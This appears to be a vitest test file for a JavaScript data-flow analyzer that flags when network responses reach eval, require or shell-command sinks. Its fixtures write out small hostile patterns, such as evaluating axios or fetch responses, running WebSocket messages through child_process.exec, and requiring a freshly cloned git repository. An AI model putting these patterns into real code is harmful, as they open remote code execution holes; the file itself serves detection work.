import { expect, test } from 'vitest';
import { analyzeJs } from './facts.ts';
import { LABEL } from './labels.ts';

/** Whether what a server answers is run. */
function runs(source: string): boolean {
  const { flows } = analyzeJs(source).flow;
  return flows.some(({ sink, labels }) => ['code', 'load'].includes(sink) && (labels & LABEL.network) !== 0);
}

test.each([
  ['a transform', `require('axios').create({ transformResponse: [(d) => eval(d)] });`],
  ['a hook', `require('got').extend({ hooks: { afterResponse: [(r) => eval(r.body)] } });`],
  ['an interceptor', `const axios = require('axios'); axios.interceptors.response.use((r) => eval(r.data));`],
  ['a socket of datagrams', `require('dgram').createSocket('udp4').on('message', (m) => eval(String(m)));`],
  ['events of a server', `new EventSource('https://a.test').addEventListener('x', (e) => eval(e.data));`],
  [
    'the first answer',
    `const get = (u) => fetch(u).then((r) => r.text());\nPromise.any(['https://a.test'].map(get)).then((t) => eval(t));`,
  ],
  [
    'a clone',
    `const to = require('fs').mkdtempSync('/tmp/x-');\nrequire('child_process').execFileSync('git', ['clone', 'https://a.test/x.git', to]);\nrequire(to);`,
  ],
])('what comes by %s is followed', (_, source) => {
  expect(runs(source)).toBe(true);
});

test.each([
  ['a request', `require('axios').create({ transformRequest: [(d) => eval(d)] });`],
  [
    'a clone of what the caller names',
    `exports.get = (url, to) => { require('child_process').execFileSync('git', ['clone', url, to]); return require(to); };`,
  ],
])('%s is no answer', (_, source) => {
  expect(runs(source)).toBe(false);
});

test('a helper starts each command that it is given', () => {
  const { commands } = analyzeJs(
    `const { execFileSync } = require('child_process');\nconst npm = (args) => execFileSync('npm', args);\nnpm(['whoami']);\nnpm(['publish']);`,
  );
  expect(commands.map(({ argv }) => argv)).toEqual([
    ['npm', 'whoami'],
    ['npm', 'publish'],
  ]);
});

test.each([
  ['a socket', "const s = new WebSocket('wss://a.weir.test'); s.onmessage = (event) => cp.exec(event.data);"],
  [
    'a socket whose class is a default',
    "class A { constructor({ Socket = globalThis.WebSocket } = {}) { this.Socket = Socket; } open() { this.s = new this.Socket('wss://a.weir.test'); this.s.onmessage = (event) => cp.exec(event.data); } }\nnew A().open();",
  ],
])('what %s tells is what a server answers', (_name, source) => {
  const { flows } = analyzeJs(`const cp = require('child_process');\n${source}`).flow;
  expect(flows.some(({ sink, labels }) => sink === 'command' && (labels & LABEL.network) !== 0)).toBe(true);
});

test('what a worker tells is not', () => {
  const { flows } = analyzeJs(
    "const w = new Worker('./w.js'); w.onmessage = (event) => require('child_process').exec(event.data);",
  ).flow;
  expect(flows.some(({ labels }) => (labels & LABEL.network) !== 0)).toBe(false);
});
